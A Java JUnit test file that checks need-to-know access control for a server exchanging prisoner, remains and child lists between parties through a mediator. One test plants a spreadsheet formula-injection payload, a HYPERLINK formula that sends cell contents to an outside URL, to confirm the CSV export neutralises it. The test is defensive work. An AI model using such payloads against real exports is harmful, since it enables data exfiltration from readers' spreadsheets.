package org.repatria.server.access;

import static org.assertj.core.api.Assertions.assertThat;
import static org.repatria.server.Fixture.Who.A_DESK;
import static org.repatria.server.Fixture.Who.A_IDENTIFICATION;
import static org.repatria.server.Fixture.Who.B_DESK;
import static org.repatria.server.Fixture.Who.MEDIATOR_DESK;
import static org.repatria.server.Fixture.Who.OBSERVER_DESK;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.UUID;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.repatria.core.document.Envelope;
import org.repatria.core.list.ListId;
import org.repatria.ledger.audit.Receipt;
import org.repatria.server.Client;
import org.repatria.server.Fixture;
import org.repatria.server.RunningServer;
import org.repatria.server.document.Documents;

/**
 * Need to know for lists and their documents, attacked from outside: the counterparty guessing ids, an observer, an
 * identification unit, a third party, an anonymous caller, a forged desk form. A hidden list answers exactly as an
 * absent one, and a refused change changes nothing.
 */
class NeedToKnowTest {
    @RegisterExtension
    static final RunningServer running = new RunningServer(30);
    /** A's list signed for every other belligerent (B and C) and relayed to B alone. */
    private static String relayedToB;
    private static String envelope;

    @BeforeAll
    static void aListOfASignedForBAndCIsRelayedToBAlone() {
        ThirdParty.join(running);
        Documents.enableServerHeldKey(running, ThirdParty.C);
        relayedToB = Lists.submit(running.api(A_DESK), "Запит: цивільні", "civilian");
        Documents.signWithServerHeldKey(running, A_DESK, Fixture.A, relayedToB);
        HttpResponse<String> relay = running.api(MEDIATOR_DESK).postJson("/api/v1/lists/" + relayedToB + "/relay",
                "{\"to\":\"ru\"}");
        assertThat(relay.statusCode()).as(relay.body()).isEqualTo(200);
        envelope = Client.json(running.api(A_DESK).get("/api/v1/lists/" + relayedToB + "/document"))
                .get("envelope_id").asString();
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1/lists/{id}", "/api/v1/lists/{id}/rows", "/api/v1/lists/{id}/document",
        "/api/v1/lists/{id}/document/content", "/api/v1/lists/{id}/identified", "/desk/lists/{id}",
        "/desk/lists/{id}/export/csv", "/desk/lists/{id}/export/xlsx", "/desk/lists/{id}/export/pdf"})
    void aPartyGuessingTheIdOfTheCounterpartysUnrelayedListLearnsNothingAnAbsentIdWouldNotTell(String path) {
        String hidden = running.world().aPrisoners.toString();
        String absent = UUID.randomUUID().toString();
        Client b = path.startsWith("/desk") ? running.desk(B_DESK) : running.api(B_DESK);

        Guesses.answerAsAbsent(id -> b.get(path.replace("{id}", id)), hidden, absent, 404);
    }

    @Test
    void anObserverReadsOnlyTheListsRelayedToIt() {
        Client observer = running.api(OBSERVER_DESK);

        assertThat(observer.get("/api/v1/lists/" + running.world().aPrisoners + "/rows").statusCode()).isEqualTo(404);
        assertThat(observer.get("/api/v1/lists/" + relayedToB + "/rows").statusCode()).isEqualTo(404);
        assertThat(observer.get("/api/v1/lists/" + running.world().aRemains + "/rows").statusCode()).isEqualTo(200);
    }

    @Test
    void anIdentificationUnitReadsItsPartysRemainsButNotItsPrisonersOrChildren() {
        Client unit = running.api(A_IDENTIFICATION);
        String children = Lists.submit(running.api(A_DESK), "Депортовані діти", "child");

        assertThat(unit.get("/api/v1/lists/" + children + "/rows").statusCode()).isEqualTo(404);
        assertThat(unit.get("/api/v1/lists/" + running.world().aPrisoners + "/rows").statusCode()).isEqualTo(404);
        assertThat(unit.get("/api/v1/lists/" + running.world().aRemains + "/rows").statusCode()).isEqualTo(200);
    }

    @Test
    void aPartyCannotSignTheCounterpartysListAndNothingIsLogged() {
        long before = logSize();

        HttpResponse<String> r = running.api(B_DESK).postJson("/api/v1/lists/" + running.world().aPrisoners + "/document",
                "{\"custody\":\"server-held\"}");

        assertThat(r.statusCode()).isEqualTo(404);
        assertThat(logSize()).isEqualTo(before);
        assertThat(running.world().store.lists().envelopeId(running.world().aPrisoners)).isEmpty();
    }

    @Test
    void aPartysDeskCannotSignTheCounterpartysListWithItsServerHeldKey() {
        long before = logSize();

        HttpResponse<String> r = running.desk(A_DESK).post("/desk/lists/" + running.world().bPrisoners + "/document",
                "custody=server-held", "application/x-www-form-urlencoded");

        assertThat(r.statusCode()).isEqualTo(404);
        assertThat(logSize()).isEqualTo(before);
        assertThat(running.world().store.lists().envelopeId(running.world().bPrisoners)).isEmpty();
    }

    @Test
    void onePartysBearerTokenCannotEnableAKeyOnAnotherPartysPath() {
        HttpResponse<String> r = running.api(A_DESK).post("/api/v1/parties/ru/server-held-key", "", "application/json");

        assertThat(r.statusCode()).isEqualTo(403);
        assertThat(running.api(MEDIATOR_DESK).delete("/api/v1/parties/ru/server-held-key").statusCode()).isEqualTo(404);
    }

    @Test
    void aDeskFormPostedWithoutItsCsrfTokenIsRefusedAndRelaysNothing() {
        Client forged = running.desk(MEDIATOR_DESK).withoutCsrf();

        HttpResponse<String> r = forged.post("/desk/lists/" + relayedToB + "/relay", "to=icrc",
                "application/x-www-form-urlencoded");

        assertThat(r.statusCode()).isEqualTo(403);
        assertThat(running.world().store.lists().relayedTo(Lists.id(relayedToB))).containsExactly(Fixture.B);
    }

    @Test
    void aBearerTokenCannotDriveADeskForm() {
        HttpResponse<String> r = running.api(MEDIATOR_DESK).post("/desk/lists/" + relayedToB + "/relay", "to=icrc",
                "application/x-www-form-urlencoded");

        assertThat(r.statusCode()).isEqualTo(403);
        assertThat(running.world().store.lists().relayedTo(Lists.id(relayedToB))).containsExactly(Fixture.B);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1/lists", "/api/v1/lists/{id}/rows", "/desk/lists/{id}", "/desk/lists/{id}/export/csv"})
    void anAnonymousCallerGetsNoListData(String path) {
        HttpResponse<String> r = running.anonymous().get(path.replace("{id}", running.world().aPrisoners.toString()));

        assertThat(r.statusCode()).isIn(401, 303);
        assertThat(r.body()).doesNotContain("Коваленко", "MI-100");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1/lists/{id}/rows", "/api/v1/lists/{id}/document/content", "/desk/lists/{id}",
        "/desk/lists/{id}/export/csv", "/desk/lists/{id}/export/xlsx", "/desk/lists/{id}/export/pdf"})
    void pagesAndExportsWithPersonalDataAreNeverStored(String path) {
        Client a = path.startsWith("/desk") ? running.desk(A_DESK) : running.api(A_DESK);

        HttpResponse<String> r = a.get(path.replace("{id}", running.world().aPrisoners.toString()));

        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.headers().firstValue("Cache-Control")).hasValueSatisfying(v -> assertThat(v).contains("no-store"));
    }

    @Test
    void anExportsFileNameNamesTheListByIdAlone() {
        HttpResponse<String> r = running.desk(A_DESK).get("/desk/lists/" + running.world().aPrisoners + "/export/csv");

        assertThat(r.headers().firstValue("Content-Disposition"))
                .contains("attachment; filename=\"list-" + running.world().aPrisoners + ".csv\"");
    }

    @Test
    void aCounterpartysListExportedAsCsvCannotRunAFormulaInTheReadersSpreadsheet() {
        Client b = running.api(B_DESK);
        HttpResponse<String> made = b.postJson("/api/v1/lists", """
                {"title":"Запрос","purpose":"request","category":"pow","rows":[{"id":"1","surname":"Петров",
                  "given_name":"Иван","unit":"=HYPERLINK(\\"http://example.org/?\\"&A1,\\"open\\")","rank":"+1","military_id":"@SUM(1)"}]}
                """);
        assertThat(made.statusCode()).as(made.body()).isEqualTo(201);
        String list = Client.json(made).get("id").asString();
        Documents.signWithServerHeldKey(running, B_DESK, Fixture.B, list);
        assertThat(running.api(MEDIATOR_DESK).postJson("/api/v1/lists/" + list + "/relay", "{\"to\":\"ua\"}").statusCode())
                .isEqualTo(200);

        String csv = running.desk(A_DESK).get("/desk/lists/" + list + "/export/csv").body();

        assertThat(csv.lines().skip(1)).isNotEmpty().allSatisfy(line -> assertThat(line.split(","))
                .noneMatch(cell -> cell.matches("^\"?[=+@-].*")));
    }

    @Test
    void anAddresseeTheListWasNotRelayedToCannotReadItsDocument() {
        Client c = ThirdParty.api(running, ThirdParty.C_DESK);

        assertThat(c.get("/api/v1/documents/" + envelope).statusCode()).isEqualTo(404);
        assertThat(c.get("/api/v1/documents/" + envelope + "/content").statusCode()).isEqualTo(404);
        assertThat(running.api(B_DESK).get("/api/v1/documents/" + envelope + "/content").body()).contains("Іваненко");
    }

    @Test
    void anAddresseeTheListWasNotRelayedToDoesNotFindItInItsInbox() {
        HttpResponse<String> page = ThirdParty.desk(running, ThirdParty.C_DESK).get("/desk/documents");

        assertThat(page.statusCode()).isEqualTo(200);
        assertThat(page.body()).doesNotContain(envelope);
        assertThat(running.desk(B_DESK).get("/desk/documents").body()).contains(envelope);
    }

    @Test
    void aPartyTheListWasNotRelayedToCannotAcknowledgeItAndNothingIsLogged() {
        long before = logSize();

        HttpResponse<String> r = ThirdParty.desk(running, ThirdParty.C_DESK).post("/desk/documents/" + envelope
                + "/acknowledgement", "custody=server-held", "application/x-www-form-urlencoded");

        assertThat(r.statusCode()).isEqualTo(404);
        assertThat(logSize()).isEqualTo(before);
    }

    @Test
    void aPartyTheListWasNotRelayedToCannotDisputeItAndNothingIsLogged() {
        Client c = ThirdParty.api(running, ThirdParty.C_DESK);
        long before = logSize();

        HttpResponse<String> r = c.postJson("/api/v1/documents/" + envelope + "/disputes",
                "{\"subject\":\"names\",\"text\":\"row 2 is not ours\"}");

        assertThat(r.statusCode()).isEqualTo(404);
        assertThat(logSize()).isEqualTo(before);
    }

    @Test
    void theAuthorCannotAcknowledgeItsOwnDocument() {
        long before = logSize();

        HttpResponse<String> r = running.desk(A_DESK).post("/desk/documents/" + envelope + "/acknowledgement",
                "custody=server-held", "application/x-www-form-urlencoded");

        assertThat(r.statusCode()).isEqualTo(400);
        assertThat(logSize()).isEqualTo(before);
    }

    @Test
    void noLogEntryCarriesPersonalData() {
        Client anyone = running.anonymous();
        long size = logSize();
        assertThat(size).isPositive();
        for (long i = 0; i < size; i++) {
            HttpResponse<String> r = anyone.get("/api/v1/log/receipts/" + i);
            assertThat(r.statusCode()).isEqualTo(200);
            String entry = new String(Receipt.parse(Client.json(r).get("receipt").asString()).entry(), StandardCharsets.UTF_8);
            assertThat(entry).as("entry " + i).contains(Envelope.HEADER)
                    .doesNotContain("MI-", "Ivanenko", "Kovalenko", "Запит", "Іваненко", "a-desk");
        }
    }

    @Test
    void theOpenApiDocumentNamesNoListAndNoPerson() {
        HttpResponse<String> r = running.anonymous().get("/api/openapi.json");

        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.body()).doesNotContain(running.world().aPrisoners.toString(), relayedToB, "Коваленко", "MI-100");
    }

    @Test
    void theDashboardCountsOnlyTheListsTheCallerMaySee() {
        var stats = Client.json(running.api(OBSERVER_DESK).get("/api/v1/stats"));

        assertThat(stats.get("lists").asInt()).isEqualTo(1);
        assertThat(stats.get("persons").asLong()).isEqualTo(12);
    }

    @Test
    void aRecipientDoesNotLearnWhoElseTheListWasRelayedTo() {
        var header = Client.json(running.api(OBSERVER_DESK).get("/api/v1/lists/" + running.world().aRemains));

        assertThat(header.get("relayed_to").valueStream().map(v -> v.asString())).containsExactly("icrc");
    }

    private static long logSize() {
        return running.server().log().checkpoint().checkpoint().size();
    }

    /** Lists made for these tests, through the API as a party's tooling makes them. */
    static final class Lists {
        private Lists() {
        }

        /** Submits a two-row list of the caller's party; its id. */
        static String submit(Client author, String title, String category) {
            String body = """
                    {"title":"%s","purpose":"request","category":"%s","rows":[
                      {"id":"1","surname":"Іваненко","given_name":"Марія","sex":"female","birth_date":"2014-03"},
                      {"id":"2","surname":"Петренко","given_name":"Олег","birth_date":"2012"}]}
                    """.formatted(title, category);
            HttpResponse<String> r = author.postJson("/api/v1/lists", body);
            assertThat(r.statusCode()).as(r.body()).isEqualTo(201);
            return Client.json(r).get("id").asString();
        }

        static ListId id(String raw) {
            return ListId.parse(raw);
        }
    }

}
